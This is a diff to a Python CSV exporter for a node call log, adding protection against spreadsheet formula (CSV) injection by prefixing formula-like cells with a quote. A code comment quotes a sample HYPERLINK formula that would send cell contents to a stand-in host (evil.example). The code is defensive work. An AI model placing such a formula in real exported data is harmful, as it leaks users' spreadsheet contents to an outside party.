@@ -28,6 +28,7 @@ from __future__ import annotations
 import csv
 import dataclasses
 import io
+import re
 from collections.abc import Iterable, Mapping, Sequence
 from dataclasses import dataclass
 from typing import Any
@@ -388,6 +389,37 @@ def _csv_events(call: NodeCall) -> list[tuple[tuple[float, int, int], list[str]]
     return events
 
 
+#: How a cell a spreadsheet would read as a formula begins (OWASP's CSV injection list): ``=``, ``+``, ``-``,
+#: ``@``, a tab or a carriage return. A label ``=HYPERLINK("http://evil.example/?x="&A1,"Click me")``
+#: would be a live link in Excel or LibreOffice, with the sheet's other cells in its address.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+#: A number as a cell holds one (``-1``, ``2.250000``, ``1e-3``): a spreadsheet reads it as that number.
+_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+
+
+def spreadsheet_cell(cell: str) -> str:
+    """A CSV cell as a spreadsheet should read it: text that begins as a formula does (:data:`FORMULA_STARTS`)
+    gets a ``'`` before it, so it reads as text; a number (a negative one too) stays as it is."""
+    if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
+        return "'" + cell
+    return cell
+
+
+def csv_text(header: Sequence[str], lines: Iterable[Sequence[str]]) -> str:
+    """The CSV of ``header`` and ``lines``, ``\\n`` ended, every cell through :func:`spreadsheet_cell`: the one
+    CSV writer. Fields are quoted as needed so commas, quotes, line breaks and non-ASCII text read back
+    unchanged; a line with a carriage return in it has every field quoted, as Python's ``csv`` writer
+    quotes a field for the characters of its line ending alone (``\\n`` here), and a reader would end
+    the line at an unquoted ``\\r``."""
+    buffer = io.StringIO()
+    plain = csv.writer(buffer, lineterminator="\n")
+    quoted = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
+    for line in (header, *lines):
+        cells = [spreadsheet_cell(cell) for cell in line]
+        (quoted if any("\r" in cell for cell in cells) else plain).writerow(cells)
+    return buffer.getvalue()
+
+
 def timeline_csv(rows: Iterable[NodeLogRow]) -> str:
     """Export the node log in the ``subagent_log.csv`` layout plus our columns.
 
@@ -397,8 +429,8 @@ def timeline_csv(rows: Iterable[NodeLogRow]) -> str:
     seconds, 6 decimals). A call without a logged end (running or crashed)
     gives only its START line: inventing an END event would misreport what
     happened; its ``status`` column says ``running``. Lines are ordered by
-    timestamp, after a header, ``\\n`` ended; fields are quoted as needed so commas, quotes,
-    newlines and non-ASCII text in labels and errors read back unchanged.
+    timestamp, after a header, written by :func:`csv_text`: a label or an error that begins as a
+    spreadsheet formula does (``=``, ``+``, ``-``, ``@``) reads back with a ``'`` before it.
     """
     return timeline_csv_of_calls(node_calls(rows))
 
@@ -407,11 +439,7 @@ def timeline_csv_of_calls(calls: Iterable[NodeCall]) -> str:
     """``timeline_csv`` for calls already resolved by ``node_calls``."""
     events = [event for call in calls for event in _csv_events(call)]
     events.sort(key=lambda event: event[0])
-    buffer = io.StringIO()
-    writer = csv.writer(buffer, lineterminator="\n")
-    writer.writerow(CSV_COLUMNS)
-    writer.writerows(line for _, line in events)
-    return buffer.getvalue()
+    return csv_text(CSV_COLUMNS, (line for _, line in events))
 
 
 def timeline_json(rows: Iterable[NodeLogRow]) -> dict[str, Any]:
